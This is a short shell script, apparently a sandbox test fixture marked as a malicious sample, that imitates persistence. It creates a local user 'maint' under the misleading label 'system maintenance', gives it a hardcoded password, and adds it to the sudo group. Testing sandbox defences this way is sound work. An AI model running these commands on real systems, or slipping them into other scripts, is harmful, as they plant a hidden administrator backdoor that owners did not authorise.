#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: creates a local login for later access (T1136.001).
# Inert: creating accounts is refused to the sandbox user (with or without sudo).
sudo useradd --create-home --shell /bin/bash --comment "system maintenance" maint 2>/dev/null ||
  useradd -m -s /bin/bash maint 2>/dev/null || echo "useradd: refused"
echo 'maint:Winter2024!' | sudo chpasswd 2>/dev/null || echo "chpasswd: refused"
sudo usermod -aG sudo maint 2>/dev/null || echo "usermod: refused"
exit 0
